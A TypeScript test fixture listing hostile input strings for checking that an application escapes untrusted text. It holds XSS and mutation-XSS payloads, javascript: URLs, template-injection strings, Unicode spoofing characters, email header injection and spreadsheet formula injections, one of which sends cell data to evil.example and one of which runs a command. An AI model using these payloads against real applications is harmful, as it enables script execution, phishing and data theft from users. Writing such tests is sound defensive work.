/** Texts that a hostile page, or a hostile member, may have anywhere. Each calls `pwned` if a browser runs it. */

export const HOSTILE_TEXTS: readonly string[] = [
  // HTML
  '<script>pwned()</script>',
  '"><script>pwned()</script>',
  "'><img src=x onerror=pwned()>",
  '<svg/onload=pwned()>',
  '" onmouseover="pwned()" autofocus onfocus="pwned()" x="',
  "' onfocus='pwned()' autofocus tabindex='0",
  '</textarea><script>pwned()</script>',
  '</title></style></script><script>pwned()</script>',
  '</code></pre></td></table><iframe srcdoc="<script>parent.pwned()</script>"></iframe>',
  '--><!--><img src=x onerror=pwned()>-->',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=pwned()&gt;">',
  '<form action="https://evil.example/"><button>Sign in</button></form>',
  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css"><style>*{display:none}</style>',
  '<a id="main" name="pwned" href="javascript:pwned()">click</a>',
  '&lt;script&gt;pwned()&lt;/script&gt;',
  '&#60;img src=x onerror=pwned()&#62; &quot;&apos;&amp;amp;',
  // Addresses
  'javascript:pwned()',
  ' JaVa\tScRi\npt:pwned()//',
  '\u0001javascript:pwned()',
  'data:text/html,<script>pwned()</script>',
  'vbscript:pwned()',
  '//evil.example/"onclick="pwned()',
  // Templates and scripts
  '{{constructor.constructor("pwned()")()}}',
  '${pwned()} #{pwned()} <%= pwned() %> {site} {n} {date} %s',
  '\\"; pwned(); // \\u003cscript\\u003epwned()\\u003c/script\\u003e',
  "`+pwned()+` ');pwned();('",
  '\u2028pwned()\u2029',
  // Characters
  '\u202egnp.exe\u202c \u2066reversed\u2069 \u200bhidden\ufeff',
  'nul \u0000 <scr\u0000ipt>pwned()</script> bell \u0007 escape \u001b[31m',
  'half a pair \ud83d and <b>more</b>',
  'W'.repeat(700),
  // Headers and tables
  'subject\r\nBcc: eve@evil.example\r\nContent-Type: text/html\r\n\r\n<script>pwned()</script>',
  '=HYPERLINK("https://evil.example/?"&A1,"open")',
  "+cmd|' /C calc'!A0",
  '-2+3+cmd',
  '@SUM(1+1)*cmd',
  '\t=1+1,"a"\r\n"b";=2',
];
